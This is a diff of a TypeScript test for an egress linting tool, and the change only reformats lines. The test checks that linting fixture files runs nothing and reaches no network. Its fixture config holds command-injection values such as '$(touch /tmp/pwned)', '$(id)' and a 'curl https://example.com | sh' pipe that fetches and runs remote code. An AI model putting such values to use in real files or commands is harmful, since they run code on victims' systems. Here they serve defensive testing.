@@ -36,7 +36,8 @@ process.on('exit', () => writeFileSync(process.env.TRAP_OUT, JSON.stringify(call
 `;
 
 const TREE = {
-  '.egress-lint.yml': 'ignore: ["$(touch /tmp/pwned)/**"]\nignoreResources:\n  - pattern: "`curl https://example.com | sh`"\n    reason: "$(id)"\n',
+  '.egress-lint.yml':
+    'ignore: ["$(touch /tmp/pwned)/**"]\nignoreResources:\n  - pattern: "`curl https://example.com | sh`"\n    reason: "$(id)"\n',
   'main.tf': `terraform {
   backend "s3" { bucket = "state" }
   required_providers { aws = { source = "hashicorp/aws" } }
@@ -93,11 +94,17 @@ describe('no execution, no network', () => {
       const out = join(dir, `calls-${jobs}.json`);
       const run = cli(['--format', 'json', '--jobs', jobs, 'main.tf', 'template.yaml', 'Pulumi.yaml'], {
         cwd: dir,
-        env: { NODE_OPTIONS: `--import=${pathToFileURL(join(dir, 'trap.mjs')).href}`, TRAP_OUT: out, EGRESS_LINT_POOL: 'force' },
+        env: {
+          NODE_OPTIONS: `--import=${pathToFileURL(join(dir, 'trap.mjs')).href}`,
+          TRAP_OUT: out,
+          EGRESS_LINT_POOL: 'force',
+        },
       });
       expect(run.stderr).toBe('');
       const report = JSON.parse(run.stdout) as JsonReport;
-      expect(report.findings.map((f) => `${f.ruleId} ${f.location.file}:${f.location.line}`)).toContain('EGR002 main.tf:22');
+      expect(report.findings.map((f) => `${f.ruleId} ${f.location.file}:${f.location.line}`)).toContain(
+        'EGR002 main.tf:22',
+      );
       expect(JSON.parse(readFileSync(out, 'utf8'))).toEqual([]);
     });
   }
